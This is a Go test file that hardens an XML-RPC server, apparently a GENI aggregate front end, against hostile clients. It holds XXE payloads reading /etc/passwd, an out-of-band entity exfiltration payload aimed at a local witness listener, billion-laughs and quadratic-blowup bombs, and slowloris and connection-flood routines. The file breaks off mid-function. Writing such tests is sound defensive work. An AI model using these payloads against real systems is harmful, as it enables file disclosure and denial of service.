package geniapi

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/geniam/geniam/am"
	"github.com/geniam/geniam/am/xmlrpc"
)

// The hostile-input tests send the aggregate's front end what an attacker or
// a broken client would, over real TLS to NewServer, and check both the
// answer and what it cost in memory. Figures are logged ("memory ...") for
// the record; GENIAM_LONG=1 runs the bigger numbers.

const callHead = `<?xml version="1.0"?><methodCall><methodName>GetVersion</methodName><params><param><value>`
const callTail = `</value></param></params></methodCall>`

// exchange sends req (a whole HTTP request) on a fresh connection and
// decodes the reply. The request is written concurrently: the server may
// answer, and close, before it has read everything.
func (hs *hostileServer) exchange(t testing.TB, req []byte) (*http.Response, any, error) {
	t.Helper()
	c := hs.dial(t)
	defer c.Close()
	go func() { _, _ = c.Write(req) }()
	return readReply(t, bufio.NewReader(c), http.MethodPost)
}

// measuredCall sends body as a call to the server and reports the reply and
// what the exchange cost in memory; anything but HTTP 200 fails the test.
func (hs *hostileServer) measuredCall(t testing.TB, body []byte) (any, memFigure, error) {
	t.Helper()
	req := rawRequest(hs.addr, body)
	var resp *http.Response
	var v any
	var err error
	m := measureMem(func() { resp, v, err = hs.exchange(t, req) })
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status %s", resp.Status)
	}
	return v, m, err
}

// outboundWitness is a loopback listener that XML external entities point
// at: any connection to it means the server fetched an entity.
type outboundWitness struct {
	ln       net.Listener
	accepted atomic.Int64
}

func newOutboundWitness(t *testing.T) *outboundWitness {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	w := &outboundWitness{ln: ln}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			w.accepted.Add(1)
			c.Close()
		}
	}()
	t.Cleanup(func() { ln.Close() })
	return w
}

// TestHostileEntities: external entities, parameter entities and entity
// expansion bombs are refused as a DTD before anything is expanded or
// fetched.
func TestHostileEntities(t *testing.T) {
	hs := startHostile(t, hostileOptions{})
	witness := newOutboundWitness(t)
	ext := "http://" + witness.ln.Addr().String()

	laughs := `<!ENTITY lol "lol">`
	for i := 1; i <= 9; i++ {
		laughs += fmt.Sprintf(`<!ENTITY lol%d "%s">`, i, strings.Repeat(fmt.Sprintf("&lol%d;", i-1), 10))
	}
	laughs = strings.Replace(laughs, "&lol0;", "&lol;", -1)
	// Quadratic blowup: one big internal entity referenced many times. 1 MB
	// times 100,000 references would expand to 100 GB.
	quadEntity := scale(1<<20, 3<<20)
	quadRefs := scale(100_000, 300_000)
	quadratic := `<!DOCTYPE methodCall [<!ENTITY a "` + strings.Repeat("a", quadEntity) + `">]>` +
		`<methodCall><methodName>GetVersion</methodName><params><param><value><string>` +
		strings.Repeat("&a;", quadRefs) + `</string></value></param></params></methodCall>`

	cases := []struct {
		name string
		body string
		code int
		msg  string
	}{
		{"external entity file", `<?xml version="1.0"?><!DOCTYPE methodCall [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>` +
			`<methodCall><methodName>&xxe;</methodName></methodCall>`, FaultParse, "DTD"},
		{"external entity http", `<?xml version="1.0"?><!DOCTYPE methodCall [<!ENTITY xxe SYSTEM "` + ext + `/xxe">]>` +
			callHead + `<string>&xxe;</string>` + callTail, FaultParse, "DTD"},
		{"external DTD", `<?xml version="1.0"?><!DOCTYPE methodCall SYSTEM "` + ext + `/call.dtd">` +
			callHead + `<string>x</string>` + callTail, FaultParse, "DTD"},
		{"parameter entity", `<?xml version="1.0"?><!DOCTYPE methodCall [<!ENTITY % pe SYSTEM "` + ext + `/pe.dtd"> %pe;]>` +
			callHead + `<string>x</string>` + callTail, FaultParse, "DTD"},
		{"parameter entity file", `<!DOCTYPE methodCall [<!ENTITY % file SYSTEM "file:///etc/passwd">` +
			`<!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM '` + ext + `/?x=%file;'>"> %eval; %exfil;]>` +
			callHead + `<string>x</string>` + callTail, FaultParse, "DTD"},
		{"billion laughs", `<?xml version="1.0"?><!DOCTYPE methodCall [` + laughs + `]>` +
			callHead + `<string>&lol9;</string>` + callTail, FaultParse, "DTD"},
		{"quadratic blowup", quadratic, FaultParse, "DTD"},
		{"DOCTYPE inside the call", callHead + `<!DOCTYPE x [<!ENTITY a "b">]><string>&a;</string>` + callTail, FaultParse, "DTD"},
		{"undefined entity, no DTD", callHead + `<string>&xxe;</string>` + callTail, FaultParse, "invalid character entity &xxe;"},
		{"billion laughs reference, no DTD", callHead + `<string>&lol9;</string>` + callTail, FaultParse, "&lol9;"},
		{"XInclude", callHead + `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>` + callTail,
			FaultParse, "unknown value type <include>"},
		{"xml-stylesheet PI", `<?xml-stylesheet type="text/xsl" href="` + ext + `/x.xsl"?>` + callHead + `<string>x</string>` + callTail, 0, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var resp *http.Response
			var err error
			req := rawRequest(hs.addr, []byte(c.body))
			m := measureMem(func() { resp, _, err = hs.exchange(t, req) })
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("status %s", resp.Status)
			}
			if c.code == 0 {
				if err != nil {
					t.Errorf("want a success, got %v", err)
				}
			} else {
				wantFault(t, c.name, err, c.code, c.msg)
			}
			if err != nil && strings.Contains(err.Error(), "root:") {
				t.Errorf("the reply shows /etc/passwd: %v", err)
			}
			// No expansion: the cost is that of reading the body, a few times
			// its size at most, never the size of the expansion.
			checkMem(t, fmt.Sprintf("%s (%d-byte body)", c.name, len(c.body)), m, uint64(4*len(c.body))+2<<20, uint64(4*len(c.body))+2<<20)
		})
	}
	time.Sleep(100 * time.Millisecond) // let a (wrong) fetch reach the witness
	if n := witness.accepted.Load(); n != 0 {
		t.Errorf("the server made %d outbound connections for external entities", n)
	}
}

// streamBody writes the request head, then the body from r (chunked when
// chunked is set), on c; it returns the body bytes written before the
// server stopped taking them, and the write error.
func streamBody(c net.Conn, head string, r io.Reader, chunked bool) (int64, error) {
	if _, err := io.WriteString(c, head); err != nil {
		return 0, err
	}
	buf := make([]byte, 64<<10)
	var sent int64
	for {
		n, rerr := r.Read(buf)
		if n > 0 {
			var err error
			if chunked {
				_, err = fmt.Fprintf(c, "%x\r\n", n)
				if err == nil {
					_, err = c.Write(buf[:n])
				}
				if err == nil {
					_, err = io.WriteString(c, "\r\n")
				}
			} else {
				_, err = c.Write(buf[:n])
			}
			if err != nil {
				return sent, err
			}
			sent += int64(n)
		}
		if rerr == io.EOF {
			if chunked {
				_, err := io.WriteString(c, "0\r\n\r\n")
				return sent, err
			}
			return sent, nil
		}
	}
}

// TestHostileHugeBodies: bodies over the limit are cut off at the limit,
// whatever the headers claim, and the connection is closed.
func TestHostileHugeBodies(t *testing.T) {
	hs := startHostile(t, hostileOptions{timeouts: shortTimeouts})
	const huge = 100 << 20
	bigString := func() io.Reader {
		return &patternReader{prefix: []byte(callHead + "<string>"), filler: []byte("0123456789abcdef"), n: huge}
	}
	cases := []struct {
		name    string
		head    string
		chunked bool
		code    int
		msg     string
		status  int // of a second response on the connection, 0 for none
	}{
		{"chunked 100 MB", "POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n", true,
			FaultInvalidRequest, "request body exceeds the limit of 4194304 bytes", 0},
		{"Content-Length 100 MB", fmt.Sprintf("POST / HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n", huge), false,
			FaultInvalidRequest, "request body exceeds the limit of 4194304 bytes", 0},
		{"Content-Length lies low", "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 200\r\n\r\n", false,
			FaultParse, "unexpected EOF", http.StatusRequestHeaderFieldsTooLarge},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			conn := hs.dial(t)
			defer conn.Close()
			var sent int64
			var werr error
			var err error
			var closedAfter time.Duration
			m := measureMem(func() {
				done := make(chan struct{})
				go func() {
					defer close(done)
					sent, werr = streamBody(conn, c.head, bigString(), c.chunked)
				}()
				br := bufio.NewReader(conn)
				var resp *http.Response
				resp, _, err = readReply(t, br, http.MethodPost)
				if resp.StatusCode != http.StatusOK {
					t.Errorf("status %s", resp.Status)
				}
				if c.status != 0 {
					// The rest of the body is read as a second request: garbage.
					r2, err := http.ReadResponse(br, nil)
					if err != nil {
						t.Errorf("no second response: %v", err)
					} else if r2.StatusCode != c.status {
						t.Errorf("second response %s, want %d", r2.Status, c.status)
					}
				}
				closedAfter = waitClosed(t, conn, 10*time.Second)
				conn.Close()
				<-done
			})
			wantFault(t, c.name, err, c.code, c.msg)
			if werr == nil {
				t.Errorf("the server took the whole 100 MB body")
			}
			t.Logf("%s: the server closed the connection %v after its reply; the client had sent %s (write error: %v)",
				c.name, closedAfter.Round(time.Millisecond), mib(uint64(sent)), werr)
			if sent > 32<<20 {
				t.Errorf("the server read %s before closing", mib(uint64(sent)))
			}
			// The body limit is 4 MiB: a 100 MB body never costs more than 16.
			checkMem(t, c.name, m, 16<<20, 16<<20)
		})
	}

	t.Run("Content-Length lies high, body stalls", func(t *testing.T) {
		conn := hs.dial(t)
		defer conn.Close()
		body := callHead + "<string>only this much"
		fmt.Fprintf(conn, "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n%s", huge, body)
		start := time.Now()
		resp, _, err := readReply(t, bufio.NewReader(conn), http.MethodPost)
		took := time.Since(start)
		if resp.StatusCode != http.StatusOK {
			t.Errorf("status %s", resp.Status)
		}
		wantFault(t, "stalled body", err, FaultParse, "cannot read the request")
		waitClosed(t, conn, 5*time.Second)
		t.Logf("stalled body: fault and close after %v (ReadTimeout %v)", took.Round(time.Millisecond), shortTimeouts.read)
		if took < shortTimeouts.read-200*time.Millisecond || took > shortTimeouts.read+3*time.Second {
			t.Errorf("the server answered after %v, want about its ReadTimeout of %v", took, shortTimeouts.read)
		}
	})
}

// nested returns a call whose one param is depth levels of arrays or structs.
func nested(depth int, kind string) []byte {
	var open, close string
	switch kind {
	case "array":
		open, close = "<value><array><data>", "</data></array></value>"
	case "struct":
		open, close = "<value><struct><member><name>m</name>", "</member></struct></value>"
	}
	var b bytes.Buffer
	b.WriteString(`<methodCall><methodName>GetVersion</methodName><params><param>`)
	for i := 0; i < depth; i++ {
		b.WriteString(open)
	}
	b.WriteString("<value><int>1</int></value>")
	for i := 0; i < depth; i++ {
		b.WriteString(close)
	}
	b.WriteString(`</param></params></methodCall>`)
	return b.Bytes()
}

// manyValues returns a GetVersion call whose options carry n ints in one
// array (an unknown option, which the edge ignores).
func manyValues(n int) []byte {
	var b bytes.Buffer
	b.WriteString(`<methodCall><methodName>GetVersion</methodName><params><param><value><struct><member><name>x</name><value><array><data>`)
	for i := 0; i < n; i++ {
		fmt.Fprintf(&b, "<value><i4>%d</i4></value>", 1000+i%1000)
	}
	b.WriteString(`</data></array></value></member></struct></value></param></params></methodCall>`)
	return b.Bytes()
}

// TestHostileShapes: deep nesting, many values, long strings and repeated
// struct members are refused at the codec's limits or pass with bounded
// memory.
func TestHostileShapes(t *testing.T) {
	depth := scale(10_000, 100_000)
	values := scale(300_000, 1_000_000)
	cases := []struct {
		name string
		opts HandlerOptions
		body func() []byte
		code int // fault code, 0 for a GetVersion success
		msg  string
		// encoding/xml allocates some 600 bytes per value as it goes (names
		// of start and end elements, the element stack): maxAlloc allows
		// for that churn, maxPeak bounds what is held at once.
		maxAlloc, maxPeak uint64
	}{
		{fmt.Sprintf("%d nested arrays", depth), HandlerOptions{}, func() []byte { return nested(depth, "array") },
			FaultParse, "nesting deeper than the limit of 64", 8 << 20, 8 << 20},
		{fmt.Sprintf("%d nested structs", depth), HandlerOptions{}, func() []byte { return nested(depth, "struct") },
			FaultParse, "nesting deeper than the limit of 64", 8 << 20, 8 << 20},
		{fmt.Sprintf("%d ints over the value limit", values), HandlerOptions{MaxBodyBytes: 32 << 20}, func() []byte { return manyValues(values) },
			// The peak follows the garbage collector's pacing, which the
			// prebuilt request (live during the call) loosens.
			FaultParse, "more than the limit of 100000 values", 80 << 20, 64 << 20},
		{fmt.Sprintf("%d ints with the value limit raised", values), HandlerOptions{MaxBodyBytes: 32 << 20, Limits: xmlrpc.Limits{MaxValues: 2_000_000}},
			func() []byte { return manyValues(values) }, 0, "", uint64(values) * 1000, uint64(values) * 200},
		{"string just under the body limit", HandlerOptions{}, func() []byte {
			return []byte(callHead + "<struct><member><name>s</name><value><string>" + strings.Repeat("x", 4<<20-1024) +
				"</string></value></member></struct>" + callTail)
		}, 0, "", 24 << 20, 24 << 20},
		{"string over the string limit", HandlerOptions{MaxBodyBytes: 32 << 20}, func() []byte {
			return []byte(callHead + "<string>" + strings.Repeat("x", 9<<20) + "</string>" + callTail)
		}, FaultParse, "<string> longer than the limit of 8388608 bytes", 48 << 20, 48 << 20},
		// The decoder holds the body (36 MiB, the limit raised to 64), read
		// into buffers that grow with what arrives (4 MiB, then the
		// announced 36), and resolves the string's references up to one
		// byte past its limit (8 MiB).
		{"escaped string over the string limit", HandlerOptions{MaxBodyBytes: 64 << 20}, func() []byte {
			return []byte(callHead + "<string>" + strings.Repeat("&lt;", 9<<20) + "</string>" + callTail)
		}, FaultParse, "<string> longer than the limit of 8388608 bytes", 56 << 20, 52 << 20},
		{"100,000 members with one name", HandlerOptions{}, func() []byte {
			return []byte(callHead + "<struct>" + strings.Repeat("<member><name>a</name><value/></member>", 100_001) +
				"</struct>" + callTail)
		}, FaultParse, "more than the limit of 100000 values", 80 << 20, 32 << 20},
		{"4 MB of attributes", HandlerOptions{}, func() []byte {
			return []byte(`<methodCall ` + strings.Repeat(`a="b" `, (4<<20-100)/6) + `><methodName>GetVersion</methodName></methodCall>`)
		}, FaultParse, "a tag longer than the limit of 16384 bytes", 8 << 20, 8 << 20},
		{"50,000 members with one name", HandlerOptions{}, func() []byte {
			return []byte(callHead + "<struct>" + strings.Repeat("<member><name>geni_available</name><value><int>7</int></value></member>", 49_999) +
				"<member><name>geni_available</name><value><boolean>1</boolean></value></member></struct>" + callTail)
		}, 0, "", 64 << 20, 32 << 20},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			hs := startHostile(t, hostileOptions{handler: c.opts})
			body := c.body()
			v, m, err := hs.measuredCall(t, body)
			if c.code != 0 {
				wantFault(t, c.name, err, c.code, c.msg)
			} else if err != nil {
				t.Errorf("want a reply, got %v", err)
			} else if code := codeOf(t, v.(map[string]any)); code != 0 {
				t.Errorf("geni_code %d: %v", code, v)
			}
			checkMem(t, fmt.Sprintf("%s (%s body)", c.name, mib(uint64(len(body)))), m, c.maxAlloc, c.maxPeak)
		})
	}
}

// credentialsCall is a ListResources call with n credentials of value v.
func credentialsCall(n int, v string) []byte {
	list := make([]any, n)
	for i := range list {
		list[i] = map[string]any{"geni_type": "geni_sfa", "geni_version": "3", "geni_value": v}
	}
	var b bytes.Buffer
	if err := xmlrpc.EncodeCall(&b, "ListResources", list, map[string]any{"geni_rspec_version": rspecV3}); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// TestHostileCredentials: a call with thousands of credentials, or one huge
// one, is refused before the aggregate sees it.
func TestHostileCredentials(t *testing.T) {
	huge := scale(50<<20, 100<<20)
	hugeCred := func() []byte {
		return []byte(`<methodCall><methodName>ListResources</methodName><params><param><value><array><data><value><string>` +
			strings.Repeat("A", huge) + `</string></value></data></array></value></param>` +
			`<param><value><struct></struct></value></param></params></methodCall>`)
	}
	cases := []struct {
		name              string
		opts              HandlerOptions
		body              []byte
		geniCode          int64 // when a v3 reply is expected (1 is BADARGS)
		fault             int
		msg               string
		maxAlloc, maxPeak uint64
	}{
		{"10,000 credentials", HandlerOptions{}, credentialsCall(10_000, "<signed-credential/>"), 1, 0,
			// The array is decoded (10,000 maps) before the edge counts it.
			"credentials has 10000 entries, more than the limit of 64", 48 << 20, 64 << 20},
		{"65 credentials", HandlerOptions{}, credentialsCall(65, "<signed-credential/>"), 1, 0,
			"credentials has 65 entries, more than the limit of 64", 4 << 20, 4 << 20},
		{"64 credentials", HandlerOptions{}, credentialsCall(64, "<signed-credential/>"), 0, 0, "", 4 << 20, 4 << 20},
		{fmt.Sprintf("%d MB credential", huge>>20), HandlerOptions{}, hugeCred(), 0, FaultInvalidRequest,
			"request body exceeds the limit of 4194304 bytes", 16 << 20, 16 << 20},
		{fmt.Sprintf("%d MB credential, body limit raised", huge>>20), HandlerOptions{MaxBodyBytes: int64(huge) + 1<<20}, hugeCred(), 0, FaultParse,
			"<string> longer than the limit of 8388608 bytes", 80 << 20, 96 << 20},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			hs := startHostile(t, hostileOptions{handler: c.opts})
			v, m, err := hs.measuredCall(t, c.body)
			if c.fault != 0 {
				wantFault(t, c.name, err, c.fault, c.msg)
			} else if err != nil {
				t.Fatalf("want a v3 reply, got %v", err)
			} else {
				reply := v.(map[string]any)
				if code := codeOf(t, reply); code != c.geniCode || !strings.Contains(reply["output"].(string), c.msg) {
					t.Errorf("geni_code %d output %q, want %d %q", code, reply["output"], c.geniCode, c.msg)
				}
			}
			if called := hs.fake.last().method; (called != "") != (c.geniCode == 0 && c.fault == 0) {
				t.Errorf("the aggregate was called: %q", called)
			}
			checkMem(t, fmt.Sprintf("%s (%s body)", c.name, mib(uint64(len(c.body)))), m, c.maxAlloc, c.maxPeak)
		})
	}
}

// bigRSpec is a request RSpec of n nodes.
func bigRSpec(n int) string {
	var b strings.Builder
	b.WriteString(`<rspec type="request" xmlns="http://www.geni.net/resources/rspec/3">` + "\n")
	for i := 0; i < n; i++ {
		fmt.Fprintf(&b, `  <node client_id="node-%d" component_manager_id="urn:publicid:IDN+am.example+authority+cm" exclusive="false">`+
			`<sliver_type name="docker-container"/></node>`+"\n", i)
	}
	b.WriteString("</rspec>\n")
	return b.String()
}

// TestHostileRSpec: Allocate with a request RSpec of 100,000 nodes. The edge
// does not parse RSpecs; it refuses the body over its limit, and with the
// limits raised hands the string to the aggregate without copying it many
// times.
func TestHostileRSpec(t *testing.T) {
	nodes := scale(100_000, 300_000)
	rspec := bigRSpec(nodes)
	var body bytes.Buffer
	if err := xmlrpc.EncodeCall(&body, "Allocate", sliceURN, creds, rspec, map[string]any{}); err != nil {
		t.Fatal(err)
	}
	t.Logf("%d nodes: RSpec %s, call %s", nodes, mib(uint64(len(rspec))), mib(uint64(body.Len())))

	t.Run("default limits", func(t *testing.T) {
		hs := startHostile(t, hostileOptions{})
		req := rawRequest(hs.addr, body.Bytes())
		var err error
		m := measureMem(func() { _, _, err = hs.exchange(t, req) })
		wantFault(t, "RSpec over the body limit", err, FaultInvalidRequest, "request body exceeds the limit of 4194304 bytes")
		if hs.fake.last().method != "" {
			t.Errorf("the aggregate was called")
		}
		checkMem(t, "RSpec over the body limit", m, 16<<20, 16<<20)
	})
	t.Run("limits raised", func(t *testing.T) {
		limit := int64(body.Len()) + 1<<20
		hs := startHostile(t, hostileOptions{handler: HandlerOptions{MaxBodyBytes: limit, Limits: xmlrpc.Limits{MaxStringLen: int(limit)}}})
		v, m, err := hs.measuredCall(t, body.Bytes())
		if err != nil {
			t.Fatal(err)
		}
		if code := codeOf(t, v.(map[string]any)); code != 0 {
			t.Fatalf("geni_code %d: %v", code, v)
		}
		if got := hs.fake.last(); got.method != "Allocate" || got.rspec != rspec {
			t.Errorf("the aggregate got %s with an RSpec of %d bytes, want %d", got.method, len(got.rspec), len(rspec))
		}
		// Read into encoding/xml's buffer (which doubles as it grows) and
		// copied once into the string the aggregate gets: about 3 times the
		// call.
		checkMem(t, "RSpec with raised limits", m, uint64(body.Len())*7/2, uint64(body.Len())*4)
		t.Logf("allocated %.1f times the call's size", float64(m.alloc)/float64(body.Len()))
	})
}

// bigAdAM answers ListResources with an advertisement of size bytes, so a
// reply fills the socket buffers of a client that does not read.
type bigAdAM struct {
	*fakeAM
	ad string
}

func (b *bigAdAM) ListResources(ctx context.Context, c am.Call) (string, error) { return b.ad, nil }

// TestServerTimeoutDefaults: the production server bounds slow and idle
// clients (the tests below shorten these to seconds).
func TestServerTimeoutDefaults(t *testing.T) {
	srv := NewServer("127.0.0.1:0", http.NotFoundHandler(), &tls.Config{})
	if srv.ReadHeaderTimeout <= 0 || srv.ReadTimeout <= 0 || srv.WriteTimeout <= 0 || srv.IdleTimeout <= 0 || srv.MaxHeaderBytes <= 0 ||
		srv.ReadHeaderTimeout > time.Minute || srv.IdleTimeout > 10*time.Minute || srv.MaxHeaderBytes > 1<<20 {
		t.Errorf("NewServer: read header %v, read %v, write %v, idle %v, max header %d", srv.ReadHeaderTimeout, srv.ReadTimeout,
			srv.WriteTimeout, srv.IdleTimeout, srv.MaxHeaderBytes)
	}
}

// TestHostileSlowClients: slowloris clients are cut off by the server's
// timeouts, and oversized headers are refused.
func TestHostileSlowClients(t *testing.T) {
	to := shortTimeouts
	api := &bigAdAM{fakeAM: &fakeAM{}, ad: strings.Repeat("<node/>", (16<<20)/7)}
	hs := startHostile(t, hostileOptions{api: api, timeouts: to})
	within := func(t *testing.T, what string, took, want time.Duration) {
		t.Helper()
		t.Logf("%s: cut off after %v (timeout %v)", what, took.Round(time.Millisecond), want)
		if took < want-300*time.Millisecond || took > want+2*time.Second {
			t.Errorf("%s: cut off after %v, want about %v", what, took, want)
		}
	}

	t.Run("headers one byte per second", func(t *testing.T) {
		c := hs.dial(t)
		defer c.Close()
		start := time.Now()
		go func() {
			for _, b := range []byte("POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 10\r\n\r\n") {
				if _, err := c.Write([]byte{b}); err != nil {
					return
				}
				time.Sleep(time.Second)
			}
		}()
		waitClosed(t, c, 10*time.Second)
		within(t, "header trickle", time.Since(start), to.readHeader)
	})

	t.Run("body one byte per second", func(t *testing.T) {
		c := hs.dial(t)
		defer c.Close()
		start := time.Now()
		body := rawRequest(hs.addr, []byte(callHead+"<string>x</string>"+callTail))
		split := bytes.Index(body, []byte("\r\n\r\n")) + 4
		if _, err := c.Write(body[:split]); err != nil {
			t.Fatal(err)
		}
		go func() {
			for _, b := range body[split:] {
				if _, err := c.Write([]byte{b}); err != nil {
					return
				}
				time.Sleep(time.Second)
			}
		}()
		_, _, err := readReply(t, bufio.NewReader(c), http.MethodPost)
		wantFault(t, "body trickle", err, FaultParse, "cannot read the request")
		waitClosed(t, c, 5*time.Second)
		within(t, "body trickle", time.Since(start), to.read)
	})

	t.Run("never reads the response", func(t *testing.T) {
		// Let the earlier subtests' connections close first: one of them
		// closing late would otherwise pass for this one (seen under load).
		hs.conns.waitOpen(t, 0, 10*time.Second)
		// A small receive buffer, so the server's writes block soon.
		d := &net.Dialer{Control: func(network, address string, rc syscall.RawConn) error {
			return rc.Control(func(fd uintptr) { _ = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, 4096) })
		}}
		c, err := tls.DialWithDialer(d, "tcp", hs.addr, hs.clientTLS())
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		open, _, _ := hs.conns.counts()
		var call bytes.Buffer
		_ = xmlrpc.EncodeCall(&call, "ListResources", creds, map[string]any{"geni_rspec_version": rspecV3})
		start := time.Now()
		if _, err := c.Write(rawRequest(hs.addr, call.Bytes())); err != nil {
			t.Fatal(err)
		}
		hs.conns.waitOpen(t, open-1, 10*time.Second)
		within(t, "reply not read", time.Since(start), to.write)
	})

	t.Run("header over MaxHeaderBytes", func(t *testing.T) {
		for _, size := range []int{100 << 10, 4 << 20} {
			c := hs.dial(t)
			go func() {
				fmt.Fprintf(c, "POST / HTTP/1.1\r\nHost: x\r\nX-Big: %s\r\nContent-Length: 0\r\n\r\n", strings.Repeat("b", size))
			}()
			resp, err := http.ReadResponse(bufio.NewReader(c), nil)
			if err != nil {
				t.Errorf("%d-byte header: no response (%v)", size, err)
			} else if resp.StatusCode != http.StatusRequestHeaderFieldsTooLarge {
				t.Errorf("%d-byte header: %s, want 431", size, resp.Status)
			}
			waitClosed(t, c, 5*time.Second)
			c.Close()
		}
	})
}

// TestHostileIdleConnections: thousands of idle TLS connections, and TCP
// connections that never start TLS, cost bounded memory, do not keep the
// server from answering, and are reaped by its timeouts.
func TestHostileIdleConnections(t *testing.T) {
	n := scale(1000, 3000)
	tcpOnly := scale(200, 1000)
	headerTimeout := time.Duration(scale(10, 30)) * time.Second
	if testing.Short() && !longForm() {
		n, tcpOnly, headerTimeout = 300, 100, 4*time.Second
	}
	if lim := raiseNoFile(); uint64(2*(n+tcpOnly)+256) > lim {
		n = int(lim/2) - tcpOnly - 128
		t.Logf("RLIMIT_NOFILE is %d: scaled down to %d TLS connections", lim, n)
	}
	// The connections must outlive their opening: ReadHeaderTimeout (which
	// also bounds the TLS handshake) is the time they may sit idle.
	to := timeouts{readHeader: headerTimeout, read: 2 * headerTimeout, write: 2 * headerTimeout, idle: time.Second}
	hs := startHostile(t, hostileOptions{timeouts: to})
	cfg := hs.clientTLS()
	cfg.ClientSessionCache = tls.NewLRUClientSessionCache(16) // resumption keeps thousands of handshakes cheap

	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	start := time.Now()
	conns := make([]net.Conn, 0, n+tcpOnly)
	var mu sync.Mutex
	var wg sync.WaitGroup
	var failed atomic.Int64
	work := make(chan int)
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range work {
				var c net.Conn
				var err error
				if i < n {
					c, err = tls.DialWithDialer(&net.Dialer{Timeout: 10 * time.Second}, "tcp", hs.addr, cfg)
				} else {
					c, err = net.DialTimeout("tcp", hs.addr, 10*time.Second)
				}
				if err != nil {
					failed.Add(1)
					continue
				}
				mu.Lock()
				conns = append(conns, c)
				mu.Unlock()
			}
		}()
	}
	for i := 0; i < n+tcpOnly; i++ {
		work <- i
	}
	close(work)
	wg.Wait()
	opened := time.Since(start)
	defer func() {
		for _, c := range conns {
			c.Close()
		}
	}()
	if f := failed.Load(); f > 0 {
		t.Fatalf("%d of %d connections failed to open", f, n+tcpOnly)
	}
	open, _, _ := hs.conns.counts()
	for wait := time.Now(); open < n+tcpOnly && time.Since(wait) < 2*time.Second; open, _, _ = hs.conns.counts() {
		time.Sleep(10 * time.Millisecond) // the server's accept loop may lag behind the dials
	}
	runtime.GC()
	runtime.ReadMemStats(&after)
	inUse := int64(after.HeapInuse+after.StackInuse) - int64(before.HeapInuse+before.StackInuse)
	perConn := inUse / int64(max(open, 1))
	t.Logf("opened %d TLS and %d TCP-only connections in %v; %d open on the server; memory in use +%s, %d bytes per connection "+
		"(server and client sides both, one process)", n, tcpOnly, opened.Round(time.Millisecond), open, mib(uint64(max(inUse, 0))), perConn)
	if opened >= headerTimeout {
		t.Fatalf("opening took %v, longer than the header timeout %v: scale down", opened, headerTimeout)
	}
	if open < n+tcpOnly-10 {
		t.Errorf("only %d of %d connections open on the server", open, n+tcpOnly)
	}
	if perConn > 128<<10 {
		t.Errorf("%d bytes per idle connection, want at most 128 KiB", perConn)
	}

	// A normal client is still served promptly.
	client := hs.httpClient()
	defer client.CloseIdleConnections()
	callStart := time.Now()
	v, err := rawCall(client, hs.url, "GetVersion")
	if err != nil {
		t.Fatal(err)
	}
	latency := time.Since(callStart)
	t.Logf("GetVersion with %d idle connections held: %v", open, latency.Round(time.Millisecond))
	if codeOf(t, v.(map[string]any)) != 0 || latency > 3*time.Second {
		t.Errorf("GetVersion took %v: %v", latency, v)
	}
	client.CloseIdleConnections()

	// Ten of the idle connections (the last opened) make a call and then
	// idle: IdleTimeout reaps them well before the others.
	var call bytes.Buffer
	_ = xmlrpc.EncodeCall(&call, "GetVersion")
	var idlers []*tls.Conn
	for i := len(conns) - 1; i >= 0 && len(idlers) < 10; i-- {
		if tc, ok := conns[i].(*tls.Conn); ok {
			idlers = append(idlers, tc)
		}
	}
	var idleWG sync.WaitGroup
	for _, tc := range idlers {
		idleWG.Add(1)
		go func() {
			defer idleWG.Done()
			if _, err := tc.Write(rawRequest(hs.addr, call.Bytes())); err != nil {
				t.Error(err)
				return
			}
			resp, err := http.ReadResponse(bufio.NewReader(tc), nil)
			if err != nil {
				t.Errorf("a call on an idle connection: %v", err)
				return
			}
			_, _ = io.Copy(io.Discard, resp.Body)
			idleStart := time.Now()
			_ = tc.SetReadDeadline(idleStart.Add(to.idle + 5*time.Second))
			_, err = tc.Read(make([]byte, 1))
			if took := time.Since(idleStart); err == nil || took > to.idle+2*time.Second {
				t.Errorf("a connection idle after a call was closed after %v (%v), IdleTimeout is %v", took, err, to.idle)
			}
		}()
	}
	idleWG.Wait()

	// All the others are reaped by the header timeout.
	reaped := hs.conns.waitOpen(t, 0, headerTimeout+10*time.Second)
	longest := hs.conns.maxLifetime()
	t.Logf("all reaped %v after the test began to wait; longest lifetime %v (ReadHeaderTimeout %v)", reaped.Round(time.Millisecond),
		longest.Round(time.Millisecond), headerTimeout)
	if longest > headerTimeout+3*time.Second {
		t.Errorf("a connection lived %v, ReadHeaderTimeout is %v", longest, headerTimeout)
	}
}

// TestHostileMalformed: broken encodings, odd methods and HTTP framing
// tricks get clean answers, and nothing panics (startHostile's cleanup
// checks the log: the handler's recover must not be what saved us).
func TestHostileMalformed(t *testing.T) {
	hs := startHostile(t, hostileOptions{timeouts: shortTimeouts})
	var gv bytes.Buffer
	_ = xmlrpc.EncodeCall(&gv, "GetVersion")
	getVersion := gv.String()
	post := func(body string, headers ...string) string {
		h := ""
		for _, x := range headers {
			h += x + "\r\n"
		}
